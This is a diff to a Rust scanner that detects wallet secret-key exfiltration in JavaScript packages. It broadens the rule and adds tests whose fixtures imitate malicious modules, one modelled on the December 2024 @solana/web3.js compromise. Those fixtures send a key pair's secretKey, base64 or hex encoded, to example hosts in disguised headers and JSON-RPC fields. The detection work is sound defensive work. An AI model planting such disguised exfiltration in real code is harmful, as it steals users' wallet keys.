@@ -14,7 +14,9 @@ diligence_finding::declare_rule! {
     /// `seedPhrase`, `privateKey`, `privKey`, `walletKey` and their snake-case spellings), or from the key
     /// material of a key object read as a property (`keypair.secretKey`, `this._keypair.secretKey`,
     /// `signer.privateKey`, `wallet.mnemonic.phrase`: the owner named like a wallet, signer, signing key, key
-    /// pair or account), to a network send
+    /// pair (`kp`, `pair`, `keys`) or account; in a module that loads a key-pair or signing library such as
+    /// `tweetnacl`, `ethers` or `@solana/web3.js`, the `secretKey` of any receiver but a configuration object),
+    /// to a network send
     /// (`fetch`, XHR, `http(s)`, WebSocket, a beacon) whose destination is a constant — through variables,
     /// object properties, `JSON.stringify`, request headers and helper functions, with the send in the
     /// parameter's module or one it imports or is imported by. Signing, key
@@ -173,6 +175,77 @@ mod tests {
             (
                 "index.js",
                 "const nacl = require('tweetnacl');\nexports.send = function (keypair, msg, options) {\n  const sig = nacl.sign.detached(msg, keypair.secretKey);\n  const token = JSON.stringify({ k: options.privateKey });\n  return fetch('https://rpc.example.org/', { method: 'POST', headers: { authorization: token }, body: JSON.stringify({ sig: Buffer.from(sig).toString('base64'), pub: keypair.publicKey }) });\n};\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// The December 2024 `@solana/web3.js` shape: a module that loads a signing library hands a
+    /// key pair to a "configuration" helper whose parameter has a short name; the helper puts
+    /// `kp.secretKey` base64 in a CDN-looking header of an innocuous JSON-RPC call.
+    #[test]
+    fn positive_signing_module_secret_key_in_header() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const nacl = require('tweetnacl');
+function addToConfig(p) {
+  fetch('https://rpc-metrics.example.com/', { method: 'POST', headers: { 'x-amz-cf-id': Buffer.from(p.secretKey).toString('base64') }, body: JSON.stringify({ method: 'getHealth' }) });
+}
+class Keypair {
+  constructor(k) { this._k = k || nacl.sign.keyPair(); addToConfig(this._k); }
+}
+module.exports = { Keypair };
+",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("index.js".to_string(), 3)]
+        );
+        assert_eq!(s.verdict, crate::Verdict::Malicious);
+    }
+
+    /// A `fromSecretKey(secretKey)` factory of a key-pair module posts the key hex-encoded
+    /// in a JSON-RPC body field dressed as metadata.
+    #[test]
+    fn positive_secret_key_parameter_in_a_body_field() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const nacl = require('tweetnacl');
+exports.fromSecretKey = function (secretKey) {
+  fetch('https://rpc.example.com/', { method: 'POST', body: JSON.stringify({ jsonrpc: '2.0', meta: { trace: Buffer.from(secretKey).toString('hex') } }) });
+  return nacl.sign.keyPair.fromSecretKey(secretKey);
+};
+",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/wallet-secret-exfiltration"),
+            vec![("index.js".to_string(), 3)]
+        );
+    }
+
+    /// A payment SDK's API secret (`config.secretKey`) in the authorization header of its own
+    /// API, in a module that also verifies signatures: an API key, not wallet key material.
+    #[test]
+    fn negative_api_secret_key_of_a_config() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const nacl = require('tweetnacl');
+exports.client = function (config) {
+  return {
+    verify: (m, sig, pub) => nacl.sign.detached.verify(m, sig, pub),
+    charge: (body) => fetch('https://api.example.com/v1/charges', { method: 'POST', headers: { authorization: 'Bearer ' + config.secretKey }, body: JSON.stringify(body) }),
+  };
+};
+",
             ),
         ]);
         assert!(hits(&s, "code/wallet-secret-exfiltration").is_empty());
